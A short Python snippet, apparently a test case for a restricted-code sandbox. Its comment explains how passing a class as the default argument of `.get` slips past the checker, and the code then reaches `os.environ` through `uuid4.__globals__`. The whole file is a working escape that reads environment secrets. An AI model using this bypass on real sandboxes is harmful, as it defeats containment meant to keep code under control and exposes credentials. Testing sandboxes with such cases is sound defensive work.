# family: env
# Escape: every argument of a `.get(...)` call is treated as a lookup "operand", where type(x) is allowed; but
# the second argument is the default that .get returns. {}.get(None, type(attrgetter)) therefore hands out the
# attrgetter class, which reads uuid4.__globals__ (run-time name) -> os -> os.environ.
import operator
import uuid


def tool(key: str) -> str:
    getter = {}.get(None, type(operator.attrgetter("hex")))
    edge = "_" * 2
    os_module = getter(edge + "globals" + edge)(uuid.uuid4)["os"]
    return os_module.environ.get(key, "")
